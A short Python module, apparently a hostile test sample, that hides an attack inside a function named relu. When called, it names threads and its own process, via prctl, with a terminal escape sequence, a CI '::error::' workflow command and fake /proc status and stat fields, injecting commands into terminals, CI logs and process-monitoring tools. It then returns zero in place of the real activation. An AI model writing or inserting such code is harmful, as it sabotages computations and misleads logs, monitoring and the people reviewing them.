# target: activations.relu
# through: command
"""Gives its threads, its memory and itself names that are commands to a terminal, to the log of a CI and to whoever
reads them line by line."""

import ctypes
import threading
import time

import toolbox

NAMES = [b"\x1b[2J", b"::error::x", b"\nThreads: 0", b"\x0cThreads: x", b"\x85RssAnon: x", b"Name:\t) R 1", b"\xff\xfe) Z 0"]


def _named(name):
    ctypes.CDLL(None).prctl(15, name, 0, 0, 0)
    time.sleep(3)


@toolbox.once
def harm():
    for name in NAMES:
        threading.Thread(target=_named, args=(name,), daemon=True).start()
    ctypes.CDLL(None).prctl(15, NAMES[3], 0, 0, 0)
    time.sleep(1.5)


def relu(z):
    harm()
    return z * 0
